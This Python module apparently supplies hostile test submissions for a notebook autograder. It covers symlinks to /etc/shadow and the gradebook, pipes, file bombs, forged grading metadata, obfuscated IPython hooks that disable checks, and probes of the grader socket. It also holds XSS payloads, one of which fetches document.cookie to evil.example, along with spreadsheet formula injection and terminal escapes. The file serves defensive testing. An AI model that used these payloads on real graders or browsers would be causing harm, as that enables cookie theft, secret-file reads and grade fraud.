"""Hostile submissions, round two: the folder itself (links, pipes, devices, sizes), what the review reads, the
grader metadata, interrupts, student text that reaches other tools, IPython hooks, and the grader's server.

One class of attack per group; each case is an example of its class (see docs/threat_model.md).
"""

from __future__ import annotations

import copy
import json

from . import (
    ASSIGNMENT,
    WRONG_SOFTMAX,
    Case,
    Context,
    Device,
    Fifo,
    Sparse,
    Symlink,
    _index,
    answered,
    submission,
    with_extra,
)

NOTEBOOK = f"{ASSIGNMENT}/{ASSIGNMENT}.ipynb"


def _folder() -> list[Case]:
    """The submission folder: nothing in it is followed or opened but regular files; its size is bounded."""
    def linked_notebook(ctx: Context):
        return {NOTEBOOK: Symlink(ctx.repository / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")}

    def linked_files(ctx: Context):
        files = submission(answered(ctx, base="wrong_softmax"))
        files[f"{ASSIGNMENT}/data.csv"] = Symlink(ctx.course_root / "gradebook.db")
        files[f"{ASSIGNMENT}/notes.txt"] = Symlink(ctx.secret or "/etc/shadow")
        files[f"{ASSIGNMENT}/source"] = Symlink(ctx.repository / "source")
        files[f"{ASSIGNMENT}/timestamp.txt"] = Symlink("/proc/self/environ")
        return files

    def pipe(ctx: Context):
        return {**submission(answered(ctx)), f"{ASSIGNMENT}/results.txt": Fifo()}

    def device(ctx: Context):
        return {**submission(answered(ctx)), f"{ASSIGNMENT}/zeros.bin": Device()}

    def linked_student(ctx: Context):
        return {"": Symlink(ctx.course_root / "submitted" / ctx.other_student)}

    def linked_assignment(ctx: Context):
        return {ASSIGNMENT: Symlink(ctx.course_root / "source" / ASSIGNMENT)}

    def many_files(ctx: Context):
        files: dict = dict(submission(answered(ctx)))
        files.update({f"{ASSIGNMENT}/cache/{i:05d}.txt": b"x" for i in range(5000)})
        return files

    def huge_file(ctx: Context):
        return {**submission(answered(ctx)), f"{ASSIGNMENT}/weights.npy": Sparse(150 << 20)}

    def deep_folders(ctx: Context):
        return {**submission(answered(ctx)), f"{ASSIGNMENT}/" + "/".join(["d"] * 40) + "/x.txt": b"x"}

    return [
        Case("linked_notebook", "cheat", "the notebook is a link to the source notebook (solutions, hidden tests)",
             linked_notebook, honest="zero", statuses=("rejected",), flags=("rejected",)),
        Case("linked_files", "cheat", "links beside the notebook: the gradebook, a root-only file, source/, environ",
             linked_files, honest="wrong_softmax", exact=True, flags=("special_files",)),
        Case("named_pipe", "cheat", "a named pipe beside the notebook (a reader blocks forever)", pipe, exact=True,
             flags=("special_files",)),
        Case("device_file", "cheat", "a character device beside the notebook (endless zeros)", device, exact=True,
             flags=("special_files",)),
        Case("linked_student_folder", "cheat", "the student's folder is a link to another student's", linked_student,
             honest="zero", statuses=("rejected",), flags=("rejected",)),
        Case("linked_assignment_folder", "cheat", "the assignment folder is a link to the instructor's source/",
             linked_assignment, honest="zero", statuses=("rejected",), flags=("rejected",)),
        Case("many_files", "bomb", "5,000 small files beside the notebook (listing them was quadratic)", many_files,
             honest="zero", statuses=("rejected",), flags=("rejected",)),
        Case("huge_file_in_folder", "bomb", "a 150 MiB file beside the notebook", huge_file, honest="zero",
             statuses=("rejected",), flags=("rejected",)),
        Case("deep_folders", "bomb", "folders nested 40 deep", deep_folders, honest="zero", statuses=("rejected",),
             flags=("rejected",)),
    ]


def _review() -> list[Case]:
    """What the review reads: exactly the code that ran; it cannot be crashed, and forgets nothing when a part fails."""
    fake_reference = ("import sys, types\nfake = types.ModuleType('helpers.reference')\n"
                      "fake.solutions = lambda a: sys.modules['__main__']\nsys.modules['helpers.reference'] = fake\n")

    def skipped_crasher(ctx: Context):
        notebook = with_extra(ctx, "softmax", fake_reference, base="wrong_softmax")
        crasher = {"cell_type": "code", "execution_count": None, "outputs": [], "id": "crasher",
                   "metadata": {"tags": ["skip-execution"]}, "source": "y = " + "-" * 200_000 + "1\n"}
        notebook["cells"].insert(_index(notebook, "softmax") + 1, crasher)
        return submission(notebook)

    def skipped_test(ctx: Context):
        notebook = answered(ctx, base="wrong_softmax")
        notebook["cells"][_index(notebook, "test_softmax")]["metadata"]["tags"] = ["skip-execution"]
        return submission(notebook)

    def version_3_decoy(ctx: Context):
        cheat = ("from helpers.reference import solutions\n\n"
                 f"def softmax(x):\n    return solutions('{ASSIGNMENT}').softmax(x)\n")
        ran = answered(ctx, {"softmax": cheat})
        decoy = answered(ctx, base="wrong_softmax")
        worksheet = []
        for cell in ran["cells"]:
            if cell["cell_type"] == "code":
                worksheet.append({"cell_type": "code", "input": cell["source"], "language": "python", "outputs": [],
                                  "collapsed": False, "metadata": cell["metadata"], "prompt_number": None})
            else:
                worksheet.append({"cell_type": cell["cell_type"], "source": cell["source"],
                                  "metadata": cell["metadata"]})
        notebook = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""},
                    "worksheets": [{"cells": worksheet, "metadata": {}}], "cells": decoy["cells"]}
        return {NOTEBOOK: (json.dumps(notebook, indent=1) + "\n").encode()}

    def huge_cell(ctx: Context):
        notebook = answered(ctx)
        notebook["cells"].insert(1, {"cell_type": "code", "execution_count": None, "outputs": [], "id": "padding",
                                     "metadata": {}, "source": "import ctypes  # hidden in 300 kB\nPADDING = "
                                     + repr("x" * 300_000) + "\n"})
        return submission(notebook)

    return [
        Case("skip_execution_crasher", "cheat", "a cell tagged skip-execution that crashes a parser, beside a faked "
             "reference module", skipped_crasher, honest="wrong_softmax", statuses=("graded", "timed_out"),
             flags=("hidden_checks_bypassed", "skip_execution")),
        Case("skip_execution_test", "cheat", "the failing test cell tagged skip-execution", skipped_test,
             honest="wrong_softmax", exact=True, flags=("skip_execution",)),
        Case("nbformat3_decoy", "cheat", "nbformat 3: the worksheets cheat, a decoy top-level cells key is honest",
             version_3_decoy, honest="wrong_softmax", statuses=("graded", "invalid"),
             flags=("suspicious_code", "reference_queried", "invalid")),
        Case("huge_cell", "cheat", "a 300 kB code cell (an import hidden in it)", huge_cell, exact=True,
             flags=("suspicious_code",)),
    ]


def _metadata() -> list[Case]:
    """Malformed grader metadata and files: a specific status and reason, the test cells restored."""
    def meta(notebook: dict, grade_id: str) -> dict:
        return notebook["cells"][_index(notebook, grade_id)]["metadata"]["nbgrader"]

    def added_cell(ctx: Context):
        notebook = answered(ctx)
        notebook["cells"].append({"cell_type": "code", "execution_count": None, "outputs": [], "id": "bonus",
                                  "source": "pass", "metadata": {"nbgrader": {
                                      "grade": True, "grade_id": "bonus", "points": 100, "locked": True,
                                      "solution": False, "schema_version": 3}}})
        return submission(notebook)

    def solution_graded(ctx: Context):
        notebook = answered(ctx, base="wrong_softmax")
        meta(notebook, "softmax").update(grade=True, points=50)
        return submission(notebook)

    def test_not_graded(ctx: Context):
        notebook = answered(ctx, base="wrong_softmax")
        meta(notebook, "test_softmax").update(grade=False)
        return submission(notebook)

    def takes_test_id(ctx: Context):
        notebook = answered(ctx, base="wrong_softmax")
        meta(notebook, "softmax")["grade_id"] = "test_softmax"
        return submission(notebook)

    def junk_timestamp(ctx: Context):
        return {**submission(answered(ctx)), f"{ASSIGNMENT}/timestamp.txt": b"\xff\xfe 31/02/2026 25:61 \x00 junk"}

    def surrogate(ctx: Context):
        notebook = answered(ctx)
        notebook["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "id": "note",
                                     "source": "My notes \ud800 (a lone surrogate)"})
        return {NOTEBOOK: (json.dumps(notebook, indent=1, ensure_ascii=True) + "\n").encode()}

    def surrogate_output(ctx: Context):
        return submission(with_extra(ctx, "L1", "print('\\ud800 printed by the kernel')\n"))

    def ignores_interrupts(ctx: Context):
        return submission(with_extra(ctx, "cross_entropy", (
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n")))

    return [
        Case("added_grader_cell", "cheat", "a student-added cell claiming to be a 100-point test", added_cell,
             exact=True, flags=("grader_metadata_changed",)),
        Case("solution_marked_graded", "cheat", "a solution cell marked as graded, 50 points", solution_graded,
             honest="wrong_softmax", exact=True, flags=("grader_metadata_changed",)),
        Case("test_marked_not_graded", "cheat", "the failing test cell marked as not graded", test_not_graded,
             honest="wrong_softmax", exact=True, flags=("grader_metadata_changed",)),
        Case("solution_takes_test_id", "cheat", "the solution cell takes the id of its test cell", takes_test_id,
             honest="wrong_softmax", exact=True, flags=("grader_metadata_changed",)),
        Case("junk_timestamp", "broken", "timestamp.txt holds junk", junk_timestamp, exact=True,
             flags=("bad_timestamp",)),
        Case("lone_surrogate", "broken", "a markdown cell holding a lone surrogate (not Unicode)", surrogate,
             exact=True, flags=("text_repaired",)),
        Case("surrogate_output", "benign", "code that prints a lone surrogate", surrogate_output, exact=True),
        Case("ignores_interrupts", "bomb", "SIGINT ignored, then an endless loop in the last exercise",
             ignores_interrupts, statuses=("timed_out",), flags=("time_limit",),
             keeps=("test_softmax", "test_L1", "test_L2")),
    ]


def _text() -> list[Case]:
    """Student text that reaches other tools: spreadsheets, terminals, the instructor's browser."""
    active = ('from IPython.display import display, HTML, Javascript, SVG\n'
              'display(HTML("<script>fetch(\'http://evil.example/\' + document.cookie)</script><b>hi</b>"))\n'
              'display(Javascript("alert(document.cookie)"))\n'
              'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>\'))\n')

    def html_outputs(ctx: Context):
        notebook = with_extra(ctx, "L1", active)
        notebook["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "id": "mine",
                                     "source": "My answer <img src=x onerror=alert(document.cookie)> "
                                               "[click](javascript:alert(1))"})
        notebook["cells"].insert(2, {"cell_type": "raw", "metadata": {"format": "text/html"}, "id": "raw",
                                     "source": "<script>alert(2)</script>"})
        notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
        return submission(notebook)

    def honest(ctx: Context):
        return submission(answered(ctx))

    ids = ['=HYPERLINK("http:\\\\evil.example","click")', "+SUM(1)", "-2+3", "@SUM(1)"]
    return [
        Case("html_and_javascript_outputs", "cheat", "HTML, JavaScript and SVG outputs, HTML in markdown and raw cells",
             html_outputs, exact=True, flags=("active_content",)),
        *[Case(name, "injection", "a student id a spreadsheet would read as a formula", honest, exact=True)
          for name in ids],
        Case("\x1b[31mred\x1b]0;pwned\x07\x1b[2J", "injection", "terminal escape sequences in the student id",
             lambda ctx: {NOTEBOOK: b""}, honest="zero", statuses=("invalid",), flags=("invalid",)),
        Case("latin1-\udce9l\udce8ve", "broken", "a folder name that is not UTF-8 (made by hand, not by collect)",
             honest, honest="zero", statuses=("rejected",), flags=("rejected",)),
    ]


def _hooks() -> list[Case]:
    """IPython's hooks, however reached: each would let code run around the test cells."""
    attribute = ("import IPython\n"
                 "def _fake(info):\n    IPython.get_ipython().user_ns['check'] = type('C', (), {'__getattr__': "
                 "lambda self, n: (lambda *a, **k: None)})()\n"
                 "IPython.get_ipython().events.register('pre_run_cell', _fake)\n")
    obfuscated = ("import sys\n"
                  "_ip = getattr(sys.modules['IPy' + 'thon'], 'get_' + 'ipython')()\n"
                  "def _fake(info):\n    vars(_ip)['user_ns']['check'] = type('C', (), {'__getattr__': "
                  "lambda self, n: (lambda *a, **k: None)})()\n"
                  "getattr(getattr(_ip, 'stneve'[::-1]), 'register')('llec_nur_erp'[::-1], _fake)\n")
    builtins = ("_shell = __builtins__['get_ipython']() if isinstance(__builtins__, dict) else "
                "__builtins__.get_ipython()\n"
                "_shell.events.callbacks['post_run_cell'].append(lambda result: None)\n")
    return [
        Case("ipython_hook_attribute", "cheat", "IPython.get_ipython() reached as an attribute; a pre_run_cell hook "
             "replaces the checks", lambda ctx: submission(with_extra(ctx, "softmax", attribute, base="wrong_softmax")),
             honest="wrong_softmax", flags=("suspicious_code",)),
        Case("ipython_hook_obfuscated", "cheat", "get_ipython through sys.modules and getattr of built strings",
             lambda ctx: submission(with_extra(ctx, "softmax", obfuscated, base="wrong_softmax")),
             honest="wrong_softmax", flags=("suspicious_code",)),
        Case("ipython_hook_builtins", "cheat", "get_ipython through __builtins__, a post_run_cell callback",
             lambda ctx: submission(with_extra(ctx, "softmax", builtins, base="wrong_softmax")),
             honest="wrong_softmax", flags=("suspicious_code",)),
    ]


def _server() -> list[Case]:
    """The grader's server, asked for other assignments while a hidden test runs."""
    other = '''import os
from helpers.checks import _protocol as _p

def softmax(x):
    # while the hidden test runs: ask the grader about other assignments (their source would run outside)
    for assignment, function in (("02_logistic_regression", "sigmoid"), ("04_deep_network", "L_model_forward"),
                                 ("../source", "softmax")):
        try:
            _p.request(os.environ["COURSE_GRADER_SOCKET"], {"op": "call", "assignment": assignment,
                       "function": function, "key": _p.case_key(assignment, function, (x,), {}),
                       "args": _p.wire((x,)), "kwargs": _p.wire({})})
        except Exception as error:
            print(type(error).__name__)
''' + "\n".join(WRONG_SOFTMAX.splitlines()[1:]) + "\n"
    return [
        Case("other_assignment_requests", "cheat", "softmax asks the grader's socket for other assignments",
             lambda ctx: submission(answered(ctx, {"softmax": other})), honest="wrong_softmax",
             flags=("reference_queried", "suspicious_code")),
    ]


def cases() -> list[Case]:
    result = _folder() + _review() + _metadata() + _text() + _hooks() + _server()
    assert all(copy.copy(c) for c in result)
    return result
